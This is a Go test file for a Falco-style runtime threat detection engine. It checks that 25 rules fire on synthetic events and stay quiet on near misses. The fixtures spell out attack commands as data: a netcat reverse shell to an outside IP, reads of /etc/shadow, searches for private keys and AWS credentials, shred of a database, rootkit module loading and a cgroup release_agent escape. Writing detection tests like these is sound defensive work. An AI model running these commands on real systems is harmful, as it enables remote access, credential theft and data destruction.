package rules

import (
	"bufio"
	"encoding/json"
	"net/netip"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/driftwatch/driftwatch/event"
)

const capSysAdmin = 1 << 21
const capSysModule = 1 << 16

// falcoCase builds a firing event and a near miss for one stable rule.
type falcoCase struct {
	rule string
	fire func() *event.Enriched
	miss func() *event.Enriched
}

func catShadow() *event.Enriched {
	p := lineage(proc("cat", "/usr/bin/cat", "cat", "/etc/shadow"), proc("bash", "/usr/bin/bash"), proc("sshd", "/usr/sbin/sshd"))
	return openEv(p, "/etc/shadow", 0)
}

func falcoCases() []falcoCase {
	sock := func(e *event.Enriched, typ event.FDType) *event.Enriched {
		e.FD = &event.FD{Num: 3, Type: typ, Name: "10.1.2.3:40000->203.0.113.9:4444", Family: event.AFInet, Proto: event.ProtoTCP,
			Local: netip.MustParseAddrPort("10.1.2.3:40000"), Remote: netip.MustParseAddrPort("203.0.113.9:4444"), Connected: true}
		if typ == event.FDFile {
			e.FD.Name = "/tmp/out"
		}
		return e
	}
	return []falcoCase{
		{"Directory traversal monitored file read",
			func() *event.Enriched {
				e := openEv(lineage(proc("php-fpm", "/usr/sbin/php-fpm"), proc("nginx", "/usr/sbin/nginx")), "/etc/passwd", 0)
				e.FD = &event.FD{Num: 3, Type: event.FDFile, Name: "/etc/passwd", NameRaw: "/var/www/html/../../../etc/passwd"}
				return e
			},
			func() *event.Enriched {
				e := openEv(lineage(proc("php-fpm", "/usr/sbin/php-fpm"), proc("nginx", "/usr/sbin/nginx")), "/etc/passwd", 0)
				e.FD = &event.FD{Num: 3, Type: event.FDFile, Name: "/etc/passwd", NameRaw: "/etc/passwd"}
				return e
			}},
		{"Read sensitive file trusted after startup",
			func() *event.Enriched {
				p := lineage(proc("nginx", "/usr/sbin/nginx"), proc("bash", "/bin/bash"), proc("chef-client", "/opt/chef/bin/chef-client"))
				return openEv(p, "/etc/shadow", 0)
			},
			func() *event.Enriched {
				p := lineage(proc("nginx", "/usr/sbin/nginx"), proc("bash", "/bin/bash"), proc("chef-client", "/opt/chef/bin/chef-client"))
				p.StartTime = tNow - 2*second // new process: allowed to read at startup
				return openEv(p, "/etc/shadow", 0)
			}},
		{"Read sensitive file untrusted", catShadow,
			func() *event.Enriched {
				p := lineage(proc("cat", "/usr/bin/cat", "cat", "/etc/hostname"), proc("bash", "/usr/bin/bash"))
				return openEv(p, "/etc/hostname", 0)
			}},
		{"Run shell untrusted",
			func() *event.Enriched {
				return execEv(lineage(proc("sh", "/bin/sh", "sh", "-c", "id"), proc("nginx", "/usr/sbin/nginx"), proc("systemd", "/lib/systemd/systemd")))
			},
			func() *event.Enriched {
				return execEv(lineage(proc("sh", "/bin/sh", "sh", "-c", "id"), proc("python3", "/usr/bin/python3"), proc("systemd", "/lib/systemd/systemd")))
			}},
		{"System user interactive",
			func() *event.Enriched {
				p := lineage(proc("id", "/usr/bin/id"), proc("bash", "/bin/bash"), proc("sshd", "/usr/sbin/sshd"))
				p.Euid = 33
				return execEv(p)
			},
			func() *event.Enriched {
				p := lineage(proc("id", "/usr/bin/id"), proc("bash", "/bin/bash"), proc("sshd", "/usr/sbin/sshd"))
				p.Euid = 1000
				return execEv(p)
			}},
		{"Terminal shell in container",
			func() *event.Enriched {
				p := inCtr(lineage(proc("bash", "/bin/bash"), proc("runc:[1:CHILD]", "/usr/bin/runc")), ctr())
				p.Tty = 34816
				return execEv(p)
			},
			func() *event.Enriched {
				p := inCtr(lineage(proc("bash", "/bin/bash"), proc("runc:[1:CHILD]", "/usr/bin/runc")), ctr())
				return execEv(p)
			}},
		{"Contact K8S API Server From Container",
			func() *event.Enriched {
				return connectEv(inCtr(lineage(proc("curl", "/usr/bin/curl"), proc("sh", "/bin/sh")), ctr()), "10.96.0.1", 443)
			},
			func() *event.Enriched {
				return connectEv(inCtr(lineage(proc("curl", "/usr/bin/curl"), proc("sh", "/bin/sh")), ctr()), "10.96.0.10", 53)
			}},
		{"Netcat Remote Code Execution in Container",
			func() *event.Enriched {
				return execEv(inCtr(lineage(proc("nc", "/usr/bin/nc", "nc", "203.0.113.9", "4444", "-e", "/bin/sh"), proc("sh", "/bin/sh")), ctr()))
			},
			func() *event.Enriched {
				return execEv(inCtr(lineage(proc("nc", "/usr/bin/nc", "nc", "-z", "203.0.113.9", "4444"), proc("sh", "/bin/sh")), ctr()))
			}},
		{"Search Private Keys or Passwords",
			func() *event.Enriched {
				return execEv(lineage(proc("grep", "/usr/bin/grep", "grep", "-r", "BEGIN RSA PRIVATE", "/home"), proc("bash", "/bin/bash")))
			},
			func() *event.Enriched {
				return execEv(lineage(proc("grep", "/usr/bin/grep", "grep", "-r", "BEGIN CERTIFICATE", "/home"), proc("bash", "/bin/bash")))
			}},
		{"Clear Log Activities",
			func() *event.Enriched {
				return openEv(lineage(proc("bash", "/bin/bash"), proc("sshd", "/usr/sbin/sshd")), "/var/log/syslog", oWronly|oTrunc)
			},
			func() *event.Enriched {
				return openEv(lineage(proc("bash", "/bin/bash"), proc("sshd", "/usr/sbin/sshd")), "/var/log/syslog", oWronly|oAppend)
			}},
		{"Remove Bulk Data from Disk",
			func() *event.Enriched {
				return execEv(lineage(proc("shred", "/usr/bin/shred", "shred", "-u", "/data/db"), proc("bash", "/bin/bash")))
			},
			func() *event.Enriched {
				return execEv(lineage(proc("rm", "/usr/bin/rm", "rm", "/data/db"), proc("bash", "/bin/bash")))
			}},
		{"Create Symlink Over Sensitive Files",
			func() *event.Enriched {
				e := sysEv(lineage(proc("ln", "/usr/bin/ln"), proc("bash", "/bin/bash")), event.SysSymlinkat, 0)
				e.Path, e.Path2 = []byte("/etc/shadow"), []byte("/tmp/s")
				return e
			},
			func() *event.Enriched {
				e := sysEv(lineage(proc("ln", "/usr/bin/ln"), proc("bash", "/bin/bash")), event.SysSymlinkat, 0)
				e.Path, e.Path2 = []byte("/etc/hostname"), []byte("/tmp/s")
				return e
			}},
		{"Create Hardlink Over Sensitive Files",
			func() *event.Enriched {
				e := sysEv(lineage(proc("ln", "/usr/bin/ln"), proc("bash", "/bin/bash")), event.SysLinkat, 0)
				e.Path, e.Path2 = []byte("/etc/sudoers"), []byte("/tmp/s")
				return e
			},
			func() *event.Enriched {
				e := sysEv(lineage(proc("ln", "/usr/bin/ln"), proc("bash", "/bin/bash")), event.SysLinkat, 0)
				e.Path, e.Path2 = []byte("/etc/motd"), []byte("/tmp/s")
				return e
			}},
		{"Packet socket created in container",
			func() *event.Enriched {
				e := sysEv(inCtr(proc("tcpdump", "/usr/bin/tcpdump"), ctr()), event.SysSocket, 3)
				e.Family = 17
				return e
			},
			func() *event.Enriched {
				e := sysEv(inCtr(proc("tcpdump", "/usr/bin/tcpdump"), ctr()), event.SysSocket, 3)
				e.Family = event.AFInet
				return e
			}},
		{"Redirect STDOUT/STDIN to Network Connection in Container",
			func() *event.Enriched {
				e := sysEv(inCtr(proc("bash", "/bin/bash"), ctr()), event.SysDup2, 1)
				e.Fd, e.Fd2 = 3, 1
				return sock(e, event.FDIPv4)
			},
			func() *event.Enriched {
				e := sysEv(inCtr(proc("bash", "/bin/bash"), ctr()), event.SysDup2, 1)
				e.Fd, e.Fd2 = 3, 1
				return sock(e, event.FDFile)
			}},
		{"Linux Kernel Module Injection Detected",
			func() *event.Enriched {
				e := sysEv(inCtr(proc("insmod", "/sbin/insmod", "insmod", "rootkit.ko"), ctr()), event.SysFinitModule, 0)
				e.CapEff = capSysModule | capSysAdmin
				return e
			},
			func() *event.Enriched {
				e := sysEv(inCtr(proc("insmod", "/sbin/insmod", "insmod", "rootkit.ko"), ctr()), event.SysFinitModule, -1)
				e.CapEff = capSysAdmin
				return e
			}},
		{"Debugfs Launched in Privileged Container",
			func() *event.Enriched {
				k := ctr()
				k.Privileged = true
				return execEv(inCtr(proc("debugfs", "/sbin/debugfs", "debugfs", "/dev/sda1"), k))
			},
			func() *event.Enriched {
				return execEv(inCtr(proc("debugfs", "/sbin/debugfs", "debugfs", "/dev/sda1"), ctr()))
			}},
		{"Detect release_agent File Container Escapes",
			func() *event.Enriched {
				e := openEv(inCtr(proc("sh", "/bin/sh"), ctr()), "/tmp/cgrp/release_agent", oWronly)
				e.CapEff = capSysAdmin
				return e
			},
			func() *event.Enriched {
				e := openEv(inCtr(proc("sh", "/bin/sh"), ctr()), "/tmp/cgrp/release_agent", oWronly)
				e.CapEff = 0
				return e
			}},
		{"PTRACE attached to process",
			func() *event.Enriched {
				e := sysEv(proc("gdb", "/usr/bin/gdb"), event.SysPtrace, 0)
				e.Flags, e.Arg3 = 16, 777
				return e
			},
			func() *event.Enriched {
				e := sysEv(proc("gdb", "/usr/bin/gdb"), event.SysPtrace, 0)
				e.Flags, e.Arg3 = 7, 777
				return e
			}},
		{"PTRACE anti-debug attempt",
			func() *event.Enriched {
				e := sysEv(proc("malware", "/tmp/malware"), event.SysPtrace, 0)
				e.Flags = 0
				return e
			},
			func() *event.Enriched {
				e := sysEv(proc("malware", "/tmp/malware"), event.SysPtrace, 0)
				e.Flags = 17
				return e
			}},
		{"Find AWS Credentials",
			func() *event.Enriched {
				return execEv(lineage(proc("find", "/usr/bin/find", "find", "/", "-path", "*/.aws/credentials"), proc("bash", "/bin/bash")))
			},
			func() *event.Enriched {
				return execEv(lineage(proc("find", "/usr/bin/find", "find", "/", "-name", "*.log"), proc("bash", "/bin/bash")))
			}},
		{"Execution from /dev/shm",
			func() *event.Enriched {
				return execEv(lineage(proc("x", "/dev/shm/x", "/dev/shm/x"), proc("bash", "/bin/bash")))
			},
			func() *event.Enriched {
				return execEv(lineage(proc("x", "/tmp/x", "/tmp/x"), proc("bash", "/bin/bash")))
			}},
		{"Drop and execute new binary in container",
			func() *event.Enriched {
				p := inCtr(lineage(proc("payload", "/tmp/payload"), proc("sh", "/bin/sh")), ctr())
				p.ExeUpperLayer = true
				return execEv(p)
			},
			func() *event.Enriched {
				return execEv(inCtr(lineage(proc("ls", "/bin/ls"), proc("sh", "/bin/sh")), ctr()))
			}},
		{"Disallowed SSH Connection Non Standard Port",
			func() *event.Enriched {
				return connectEv(lineage(proc("ssh", "/usr/bin/ssh", "ssh", "-p", "443", "203.0.113.9"), proc("bash", "/bin/bash")), "203.0.113.9", 443)
			},
			func() *event.Enriched {
				return connectEv(lineage(proc("ssh", "/usr/bin/ssh", "ssh", "203.0.113.9"), proc("bash", "/bin/bash")), "203.0.113.9", 22)
			}},
		{"Fileless execution via memfd_create",
			func() *event.Enriched {
				p := lineage(proc("3", "memfd:payload", "3"), proc("python3", "/usr/bin/python3"))
				p.ExeMemfd = true
				e := execEv(p)
				e.Flags2 |= event.FlagExeMemfd
				return e
			},
			func() *event.Enriched {
				return execEv(lineage(proc("3", "/usr/bin/3", "3"), proc("python3", "/usr/bin/python3")))
			}},
	}
}

func TestFalcoStableRulesFireAndMiss(t *testing.T) {
	rs := loadFalco(t, Options{IPNames: func(a netip.Addr) (string, bool) {
		if a == netip.MustParseAddr("10.96.0.1") {
			return "kubernetes.default.svc.cluster.local", true
		}
		return "", false
	}})
	cases := falcoCases()
	covered := map[string]bool{}
	for _, tc := range cases {
		covered[tc.rule] = true
		t.Run(tc.rule, func(t *testing.T) {
			if got := rs.Match(tc.fire()); !sameSet(got, []string{tc.rule}) {
				t.Errorf("firing event matched %q, want exactly [%q]", got, tc.rule)
			}
			if got := rs.Match(tc.miss()); len(got) != 0 {
				t.Errorf("near miss matched %q, want nothing", got)
			}
		})
	}
	for _, r := range rs.Rules() {
		if !covered[r.Name] {
			t.Errorf("stable rule %q has no test case", r.Name)
		}
	}
	if len(covered) != 25 || rs.Len() != 25 {
		t.Errorf("covered %d rules, ruleset has %d; want 25", len(covered), rs.Len())
	}
}

func TestCheckStableCounts(t *testing.T) {
	_, rep, err := Load([]string{sharedRules(t)}, Options{Users: testUsers})
	if err != nil {
		t.Fatal(err)
	}
	f := rep.Files[0]
	if f.Rules != 25 || f.Enabled != 25 || f.Macros != 87 || f.Lists != 49 {
		t.Errorf("counts %+v, want 25 rules, 25 enabled, 87 macros, 49 lists", f)
	}
	if rep.RequiredEngineVersion != "0.57.0" || len(rep.RequiredPlugins) != 1 || rep.RequiredPlugins[0].Name != "container" {
		t.Errorf("required versions not reported: %q %+v", rep.RequiredEngineVersion, rep.RequiredPlugins)
	}
}

// Every field the stable set uses (fields_used.txt) must be supported.
func TestFieldsUsedSupported(t *testing.T) {
	f, err := os.Open(filepath.Join(filepath.Dir(sharedRules(t)), "fields_used.txt"))
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	cp := &compiler{xslots: new(int)}
	n := 0
	sc := bufio.NewScanner(f)
	for sc.Scan() {
		line := strings.TrimSpace(sc.Text())
		if line == "" || line[0] == '#' {
			continue
		}
		name := strings.Fields(line)[0]
		fr := fieldRef{name: name}
		if def, ok := fieldTable[name]; ok && def.argMode == 2 {
			fr.arg, fr.hasArg = "0", true
		}
		if strings.HasPrefix(name, "evt.arg.") {
			if _, ok := fieldTable[name]; !ok {
				t.Errorf("field %s not supported", name)
				continue
			}
		}
		if _, err := cp.resolveField(&fr); err != nil {
			t.Errorf("field %s: %v", name, err)
		}
		n++
	}
	if n != 64 {
		t.Errorf("read %d fields from fields_used.txt, want 64", n)
	}
}

func TestCatShadowJSONAlert(t *testing.T) {
	rs := loadFalco(t, Options{})
	e := catShadow()
	e.Euid = 0
	var alerts []*event.Alert
	rs.Eval(e, func(a *event.Alert) { alerts = append(alerts, a) })
	if len(alerts) != 1 {
		t.Fatalf("got %d alerts", len(alerts))
	}
	b, err := event.AppendAlertJSON(nil, alerts[0])
	if err != nil {
		t.Fatal(err)
	}
	var m map[string]any
	if err := json.Unmarshal(b, &m); err != nil {
		t.Fatal(err)
	}
	if m["rule"] != "Read sensitive file untrusted" || m["priority"] != "Warning" || m["source"] != "syscall" || m["hostname"] != "node-1" {
		t.Errorf("bad alert header: %s", b)
	}
	if m["time"] != "2025-06-15T15:06:40.000000000Z" {
		t.Errorf("time %v, want RFC 3339 with ns in UTC", m["time"])
	}
	tags := m["tags"].([]any)
	for i := 1; i < len(tags); i++ {
		if tags[i-1].(string) > tags[i].(string) {
			t.Errorf("tags not sorted: %v", tags)
		}
	}
	of := m["output_fields"].(map[string]any)
	if of["fd.name"] != "/etc/shadow" || of["proc.name"] != "cat" || of["user.name"] != "root" || of["proc.aname[2]"] != "sshd" {
		t.Errorf("output fields: %v", of)
	}
	if of["user.uid"] != float64(0) || of["proc.tty"] != float64(0) || of["user.loginuid"] != float64(-1) {
		t.Errorf("numeric output fields not typed: %v", of)
	}
	if v, ok := of["proc.aname[4]"]; !ok || v != nil {
		t.Errorf("missing ancestor should be null, got %v (present %v)", v, ok)
	}
	want := "Sensitive file opened for reading by non-trusted program | file=/etc/shadow gparent=sshd ggparent=<NA> gggparent=<NA> evt_type=openat user=root user_uid=0 user_loginuid=-1 process=cat proc_exepath=/usr/bin/cat parent=bash command=cat /etc/shadow terminal=0"
	if alerts[0].Output != want {
		t.Errorf("output\n got %q\nwant %q", alerts[0].Output, want)
	}
	if txt := event.AlertText(alerts[0]); txt != "2025-06-15T15:06:40.000000000+0000: Warning "+want {
		t.Errorf("text line %q", txt)
	}
}
